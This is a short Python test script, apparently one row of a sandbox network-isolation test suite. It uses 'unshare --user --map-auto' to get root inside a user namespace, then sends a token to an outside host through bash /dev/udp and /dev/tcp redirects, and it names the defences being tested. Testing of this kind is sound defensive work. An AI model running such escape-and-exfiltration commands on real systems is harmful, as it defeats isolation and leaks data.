# SPDX-License-Identifier: GPL-2.0-or-later
# row: B1
# what: unshare --user --map-auto: a subordinate uid on the host's network
# defences: subordinate_ids no_new_privs
import subprocess

from attempt import TOKEN, WORLD4

subprocess.run(["unshare", "--user", "--map-auto", "--setuid", "0", "bash", "-c",
                f"echo {TOKEN.decode()} >/dev/udp/{WORLD4}/443; echo {TOKEN.decode()} >/dev/tcp/{WORLD4}/443"],
               check=False)
